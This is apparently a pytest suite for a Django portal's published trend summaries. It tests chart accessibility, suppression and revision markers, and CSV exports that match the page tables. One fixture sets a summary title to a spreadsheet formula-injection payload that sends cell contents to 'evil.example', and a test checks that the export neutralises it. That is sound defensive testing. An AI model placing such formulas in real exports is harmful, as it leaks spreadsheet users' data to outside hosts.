"""Trend summaries as people see them: SVG charts with a text alternative and labelled gaps,
the table beside each, a CSV equal to the tables and safe to open in a spreadsheet (I05)."""

import csv
import io

import pytest

from groups.models import TrendSummaryPage
from groups.trends.quarters import reporting_quarter
from tests.factories import (
    OrganisationFactory,
    TrendReturnFactory,
    make_member,
    make_trend_summary,
    publish_with_approval,
    trend_counts,
)
from tests.html import soup

pytestmark = pytest.mark.django_db


@pytest.fixture
def summary(cumbria):
    """A published summary where the 4 boys (and what must hide them) are suppressed."""
    for total, given in ((20, {}), (20, {}), (4, {"gender_boys": 4})):
        TrendReturnFactory(
            working_group=cumbria, organisation=OrganisationFactory(), total=total, counts=trend_counts(total, **given)
        )
    return make_trend_summary(cumbria, title='=HYPERLINK("http://evil.example/?"&A1,"Click")')


@pytest.fixture
def member_client(client, cumbria):
    client.force_login(make_member(cumbria))
    return client


def html_tables(response):
    """(caption, row label, figure) for every row of every table on the page."""
    rows = []
    for table in soup(response).select("table.portal-summary-table"):
        caption = table.caption.get_text(strip=True)
        for row in table.select("tbody tr"):
            rows.append((caption, row.th.get_text(strip=True), row.td.get_text(strip=True)))
    return rows


def csv_rows(response):
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_each_chart_has_a_text_alternative_and_suppressed_cells_are_labelled_gaps(member_client, summary):
    page = soup(member_client.get(summary.url))
    charts = page.select("svg.portal-chart")
    assert len(charts) == 8  # the trend and seven breakdowns
    for chart in charts:
        assert chart["role"] == "img"
        title_id, desc_id = chart["aria-labelledby"].split()
        assert chart.find(id=title_id).name == "title" and chart.find(id=title_id).get_text(strip=True)
        assert chart.find(id=desc_id).name == "desc"
        # The table with the same figures sits beside it.
        section = chart.find_parent("section")
        assert section.select_one("table.portal-summary-table") is not None
    gender = next(c for c in charts if c.title.get_text() == "Gender")
    assert "Boys and young men: hidden [c]" in gender.desc.get_text()
    gap = gender.select_one(".portal-chart__mark--gap")
    assert gap is not None and "[c]" in gap.get_text() and "Boys and young men" in gap.get_text()
    assert gap.rect["fill"] == "none" and gap.rect.get("stroke-dasharray")
    # No inline styles (CSP) and no script.
    assert not page.select("[style]") and not page.select("main script")


def test_the_legend_and_rounding_note_are_shown(member_client, summary):
    text = soup(member_client.get(summary.url)).get_text(" ", strip=True)
    assert "[c] Confidential" in text
    assert "rounded to the nearest 5" in text


def test_the_csv_holds_exactly_the_published_tables(member_client, summary):
    tables = html_tables(member_client.get(summary.url))
    response = member_client.get(f"/members/summaries/{summary.pk}/summary.csv")
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = csv_rows(response)
    figures = [tuple(row) for row in rows[1:] if row[0] not in ("Summary", "Quarter", "Note")]
    assert figures == tables
    assert ("Gender", "Boys and young men", "[c]") in figures
    # Nothing but published values: every figure is [c], a multiple of 5, or "no data" for
    # the quarters of the trend without returns.
    assert all(value in ("[c]", "no data") or int(value) % 5 == 0 for _, _, value in figures)


def test_the_csv_is_safe_against_formula_injection(member_client, summary):
    rows = csv_rows(member_client.get(f"/members/summaries/{summary.pk}/summary.csv"))
    title = rows[1][1]
    assert title.startswith("'=HYPERLINK")
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_the_public_csv_equals_the_public_page(client, summary):
    summary.publish_publicly = True
    publish_with_approval(summary)
    quarter = summary.period
    url = f"/trends/cumbria/{quarter.year}-q{quarter.number}/"
    tables = html_tables(client.get(url))
    rows = csv_rows(client.get(url + "summary.csv"))
    assert [tuple(row) for row in rows[1:] if row[0] not in ("Summary", "Quarter", "Note")] == tables
    assert rows[1][1].startswith("'=")


def test_the_narrative_allows_no_images_or_embeds():
    features = TrendSummaryPage._meta.get_field("narrative").features
    assert "image" not in features and "embed" not in features and "document-link" not in features


def test_a_summary_without_figures_says_so(member_client, cumbria):
    from groups.models import TrendSummaryPage

    page = make_trend_summary(cumbria)
    # A live revision with no publication (the ledger itself can never lose one).
    TrendSummaryPage.objects.filter(pk=page.pk).update(live_revision=page.save_revision())
    response = member_client.get(page.url)
    assert response.status_code == 200
    assert "The figures for this summary are not available" in response.content.decode()
    assert member_client.get(f"/members/summaries/{page.pk}/summary.csv").status_code == 404


def test_a_quarter_without_returns_is_no_data_never_0(member_client, cumbria):
    quarter = reporting_quarter()
    for _ in range(3):
        TrendReturnFactory(working_group=cumbria, organisation=OrganisationFactory(), total=20, counts=trend_counts(20))
    # A return of no children two quarters back: a true 0, shown as 0.
    TrendReturnFactory(
        working_group=cumbria,
        organisation=OrganisationFactory(),
        total=0,
        counts=trend_counts(0),
        quarter=quarter.previous().previous(),
    )
    page = make_trend_summary(cumbria)

    response = member_client.get(page.url)
    trend = [(label, figure) for caption, label, figure in html_tables(response) if caption.startswith("Children")]
    assert trend[-1][1] == "60"
    assert trend[-3][1] == "0"
    assert {figure for _, figure in trend[:-3]} == {"no data"} and trend[-2][1] == "no data"
    chart = soup(response).select("svg.portal-chart")[0]
    empty = chart.select(".portal-chart__mark--no-data")
    assert len(empty) == len(trend) - 2
    for mark in empty:
        assert mark.rect is None and "no data" in mark.get_text()
    assert f"{trend[-2][0]}: no data" in chart.desc.get_text()
    assert "No data: no organisation made a return" in response.content.decode()
    csv = csv_rows(member_client.get(f"/members/summaries/{page.pk}/summary.csv"))
    assert [row[2] for row in csv if row[1] == trend[-2][0]] == ["no data"]


def test_a_figure_whose_returns_changed_is_marked_revised_with_a_key(member_client, cumbria):
    for _ in range(3):
        TrendReturnFactory(working_group=cumbria, organisation=OrganisationFactory(), total=20, counts=trend_counts(20))
    page = make_trend_summary(cumbria)
    assert "[r]" not in member_client.get(page.url).content.decode()

    TrendReturnFactory(working_group=cumbria, organisation=OrganisationFactory(), total=30, counts=trend_counts(30))
    publish_with_approval(page)

    response = member_client.get(page.url)
    trend = [figure for caption, _, figure in html_tables(response) if caption.startswith("Children")]
    assert trend[-1] == "90[r]"
    assert not any("[r]" in figure for figure in trend[:-1])
    assert "[r] Revised: the returns behind this figure changed since the previous revision." in (
        soup(response).get_text(" ", strip=True)
    )
    chart = soup(response).select("svg.portal-chart")[0]
    assert "90, revised [r]" in chart.desc.get_text()
    csv = csv_rows(member_client.get(f"/members/summaries/{page.pk}/summary.csv"))
    assert ["Children and young people identified, by quarter", trend_label(page), "90 [r]"] in csv


def trend_label(page):
    return f"{page.period.year} Q{page.period.number}"
